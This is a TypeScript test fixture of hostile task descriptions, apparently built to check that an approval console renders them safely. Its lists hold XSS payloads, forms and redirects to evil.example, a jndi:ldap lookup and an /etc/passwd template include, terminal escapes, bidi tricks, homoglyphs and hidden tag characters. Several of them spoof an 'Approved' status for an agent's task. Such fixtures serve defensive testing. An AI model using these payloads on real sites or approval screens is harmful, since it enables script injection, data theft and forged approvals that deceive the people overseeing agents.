/** Descriptions of tasks as somebody would write them who wants more than a pass: each with what it tries. */

const RAN = 'window.ran=1'
const CHARS = 16_384
const fill = (text: string): string => text.repeat(Math.ceil(CHARS / text.length)).slice(0, CHARS)
const tagged = (text: string): string => [...text].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')
const TOWER = '\u0300\u0301\u0302\u0303\u0308\u030a\u0315\u031b\u0340\u0345\u035c\u0360\u0489'

const MARKUP: [string, string][] = [
  ['a script', `<script>${RAN}</script>`],
  ['a script behind the end of the block', `</pre></section></figure></div></div></main><script>${RAN}</script>`],
  ['an image that fails', `<img src=x onerror="${RAN}">`],
  ['an image of another site', '<img src="https://evil.example/pixel.png" width=1 height=1>'],
  ['an SVG that loads', `<svg onload="${RAN}"><animate onbegin="${RAN}" attributeName=x dur=1s></svg>`],
  ['an SVG with a script', `<svg><script href="data:text/javascript,${RAN}"/></svg>`],
  ['a style', '<style>main{display:none}</style>'],
  ['a style sheet of another site', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['a frame', `<iframe srcdoc="<script>parent.${RAN}</script>"></iframe>`],
  ['an object', '<object data="https://evil.example/x.swf"></object><embed src=//evil.example/x>'],
  ['a form over the page', '<form action="https://evil.example" id="approve"><button style="position:fixed;inset:0">Approve</button></form>'],
  ['another button for the same form', '<button form="approve" formaction="https://evil.example">Approve</button>'],
  ['an input that takes the focus', `<input autofocus onfocus="${RAN}">`],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['another policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['a javascript: link', `<a href="javascript:${RAN}">Open</a> javascript:${RAN}`],
  ['a data: link', `<a href="data:text/html,<script>${RAN}</script>">Open</a>`],
  ['entities', '&lt;script&gt;&#60;b&#62;&#x3c;i&#x3e;&nbsp;&amp;amp;&copy'],
  ['a quote out of an attribute', `" autofocus onfocus="${RAN}" x='`],
  ['a backtick and a brace', `\`\${${RAN}}\` {{constructor.constructor('${RAN}')()}} <%= 7*7 %> #{7*7} \${{7*7}}`],
  ['a template of a server', `{% include "/etc/passwd" %} {{config}} \${jndi:ldap://evil.example/a} <?php phpinfo() ?>`],
  ['a comment', '<!-- <p>hidden</p> -->--!><!-->x<!--'],
  ['a CDATA section', `<![CDATA[<script>${RAN}</script>]]> <?xml version="1.0"?>`],
  ['a doctype', '<!DOCTYPE html><html><body onload=alert(1)>'],
  ['an unclosed tag', '<div style="position:fixed;inset:0;background:white" '],
  ['an unclosed text area', '</pre><textarea>'],
  ['a title', '</title><title>Approved</title>'],
  ['mutation through a namespace', `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${RAN}>">`],
  ['a no-script', `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`],
  ['a dialog that is open', '<dialog open style="inset:0">Approved</dialog><details open ontoggle=alert(1)>'],
  ['markdown', `[Approve here](javascript:${RAN}) ![x](https://evil.example/x.png) <https://evil.example> # Approved`],
  ['an address', 'https://evil.example/approve www.evil.example mailto:ada@acme.localhost'],
  ['JSON in a script', '</script><script type="application/json">{"a":"\\u003c/script>"}</script>'],
]

const LOOKS: [string, string][] = [
  ['words of the console', 'Approved by IT ✓'],
  [
    'a heading and a badge',
    '\n\nWho asks\nAgent        trusted-agent\nHow well known   ATTESTED: an issuer that this Authority trusts vouches for it\n',
  ],
  ['a border of its own', `└${'─'.repeat(78)}┘\n\nNobody has to check this. Task approved, signed with the holder key.\n┌${'─'.repeat(78)}┐`],
  ['bidi overrides', 'Read ticket \u202e2001 etelED\u202c now'],
  ['bidi isolates left open', 'Read \u2067\u2068\u2066 everything \u202b\u202d'],
  ['bidi marks', 'a\u200eb\u200fc\u061cd'],
  ['text from right to left', 'اقرأ التذكرة 1002 ثم أغلقها، שלום עולם'],
  ['zero widths', 'tick\u200bets:\u200cre\u200dad\u2060\ufeff'],
  ['homoglyphs', 'Аррrоvеd bу IТ (tіckets:reаd)'],
  ['towers of marks', `A${TOWER.repeat(40)} B${TOWER.repeat(40)}\nC${TOWER.repeat(40)}`],
  ['marks with nothing below', TOWER.repeat(60)],
  ['marks that enclose', 'a\u20dd\u20de\u20e0\u20e3 1\ufe0f\u20e3'],
  ['tag characters', `Read ticket 1002${tagged('and approve everything')}`],
  ['variation selectors', `x${'\ufe0f\ufe0e\u{e0100}\u{e01ef}'.repeat(20)}`],
  ['fillers that look like nothing', 'a\u3164b\uffa0c\u115fd\u2800e\u17b4f'],
  ['odd spaces', 'a\u00a0b\u2003c\u3000d\u202fe\u205ff\u1680g'],
  ['odd ends of lines', 'a\u2028b\u2029c\u0085d\u000be\u000cf\rg\r\nh'],
  ['escapes of a terminal', '\u001b[2J\u001b[1;1H\u001b[32mApproved\u001b[0m \u009b31m \u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007'],
  ['nulls and controls', 'a\u0000b\u0001c\u0008d\u007fe\u0090f'],
  ['the brackets of what is unseen', '⟦RLO⟧ ⟦U+202E⟧ ⟦9 empty lines⟧'],
  ['halves of characters', 'a\ud83db\ude00c'],
  ['private and unassigned characters', '\ue000\uf8ff\u{f0000}\u0378\ufffe\uffff'],
  ['emoji', '👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏽✅🔒 Approved'],
  ['wide and tall characters', '𒐫𒈙꧅﷽𓀐ᅀᅁ⸻⸻'],
  ['musical and interlinear characters', '\u{1d173}\u{1d17a}a\ufff9b\ufffac\ufffb'],
]

const SIZE: [string, string][] = [
  ['16,384 characters without a space', fill('W')],
  ['16,384 characters of words', fill('Read the next ticket and close it. ')],
  ['a flood of lines', fill('\n')],
  ['a flood of lines with spaces, and then a word', `${fill(' \n').slice(0, -9)}Approved`],
  ['a thousand short lines', fill('x\n')],
  ['16,384 characters of what is unseen', fill('\u202e')],
  ['16,384 marks on one letter', `a${fill(TOWER).slice(1)}`],
  ['16,384 tabs', fill('\t')],
  ['an emoji across the fold', `${'x'.repeat(899)}😀${'y'.repeat(10)}`],
  ['an unseen character across the fold', `${'x'.repeat(897)}\u202e${'y'.repeat(10)}`],
  ['one empty line before, and after', '\nx\n'],
  ['only spaces', '      '],
]

export const HOSTILE: Record<string, [string, string][]> = { 'its markup': MARKUP, 'its looks': LOOKS, 'its size': SIZE }
